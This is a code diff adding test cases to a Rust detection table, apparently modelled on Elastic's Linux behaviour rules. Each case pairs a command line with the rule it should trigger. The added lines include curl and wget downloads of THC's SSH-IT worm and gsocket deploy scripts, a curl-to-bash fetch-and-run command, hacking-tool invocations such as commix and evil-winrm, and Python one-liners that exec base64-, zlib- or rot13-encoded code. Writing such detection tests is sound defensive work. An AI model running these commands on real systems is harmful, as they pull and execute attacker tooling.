@@ -3165,6 +3165,115 @@ fn exec_table() -> Vec<Case> {
             ],
             vec![],
         ),
+        // Elastic's endpoint behaviour rules for Linux, the files past the listing.
+        // "Potential SSH-IT SSH Worm Downloaded": THC's deploy scripts fetched by a downloader.
+        user(
+            vec!["curl", "-fsSL", "https://thc.org/ssh-it/x"],
+            vec!["tool-thc-deploy-download"],
+        ),
+        user(
+            vec![
+                "wget",
+                "-q",
+                "http://nossl.segfault.net/ssh-it-deploy.sh",
+                "-O",
+                "/dev/null",
+            ],
+            vec!["tool-thc-deploy-download"],
+        ),
+        user(
+            vec!["curl", "-fsSL", "gsocket.io/y"],
+            vec!["tool-thc-deploy-download"],
+        ),
+        user(
+            vec!["sh", "-c", "bash -c \"$(curl -fsSL https://gs.thc.org/x)\""],
+            vec!["exec-download-substitution-shell"],
+        ),
+        user(vec!["curl", "-s", "https://thc.org/ssh-it/"], vec![]),
+        user(vec!["curl", "-s", "https://gsocket.io/"], vec![]),
+        user(
+            vec!["curl", "-s", "https://example.org/thc.org/ssh-it/x"],
+            vec![],
+        ),
+        // "Potential Linux Hack Tool Launched": the names of its list the tool rules lacked.
+        user(vec!["whatweb", "http://h/"], vec!["tool-web-scanner"]),
+        user(
+            vec!["commix", "--url", "http://h/?a=1"],
+            vec!["tool-web-scanner"],
+        ),
+        user(
+            vec!["fcrackzip", "-u", "-D", "-p", "w.txt", "a.zip"],
+            vec!["tool-password-cracker"],
+        ),
+        user(vec!["cewl", "http://h/"], vec!["tool-password-cracker"]),
+        user(
+            vec!["netdiscover", "-r", "10.0.0.0/24"],
+            vec!["tool-masscan"],
+        ),
+        user(vec!["yersinia", "-G"], vec!["tool-mitm"]),
+        user(vec!["pspy64s"], vec!["tool-privesc-enumeration"]),
+        user(
+            vec!["evil-winrm", "-i", "10.0.0.5", "-u", "a"],
+            vec!["tool-c2-framework"],
+        ),
+        // "Suspicious Python Encoded Payload Execution": the other decoders of the standard
+        // library an exec'd one-liner hides its program with.
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import zlib,base64;exec(zlib.decompress(base64.b64decode('eJwrKMrMK9FQTzXWrcrJTFLXBAAwWQVD')))",
+            ],
+            vec!["exec-interpreter-decoded-program"],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import codecs;exec(codecs.decode('cevag(1)','rot13'))",
+            ],
+            vec!["exec-interpreter-decoded-program"],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import marshal,base64;exec(marshal.loads(base64.b64decode('YwAAAA==')))",
+            ],
+            vec!["exec-interpreter-decoded-program"],
+        ),
+        user(
+            vec![
+                "python",
+                "-c",
+                "import binascii;exec(binascii.a2b_base64('cHJpbnQoMSk='))",
+            ],
+            vec!["exec-interpreter-decoded-program"],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import base64;c=base64.b85decode('F)}kW');exec(c)",
+            ],
+            vec!["exec-interpreter-decoded-program"],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import codecs;print(codecs.decode('uryyb','rot13'))",
+            ],
+            vec![],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import zlib,sys;sys.stdout.buffer.write(zlib.decompress(sys.stdin.buffer.read()))",
+            ],
+            vec![],
+        ),
     ]
 }
 
